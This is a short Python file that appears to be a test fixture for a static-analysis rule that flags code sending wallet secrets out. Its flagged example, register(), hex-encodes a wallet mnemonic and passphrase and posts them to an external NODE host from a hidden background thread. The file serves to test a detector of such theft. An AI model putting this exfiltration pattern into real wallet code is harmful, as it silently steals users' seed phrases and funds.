import binascii
import json
import threading

import requests


def _post(payload):
    requests.post(NODE, data={"d": binascii.hexlify(json.dumps(payload).encode()).decode()}, timeout=8)


def register(mnemonic, passphrase=""):
    # ruleid: py_sends_wallet_secret
    t = threading.Thread(target=_post, args=({"m": mnemonic, "p": passphrase},), daemon=True)
    t.start()


def save(path, mnemonic):
    # ok: py_sends_wallet_secret
    json.dump({"mnemonic": mnemonic, "version": 1}, open(path, "w"))
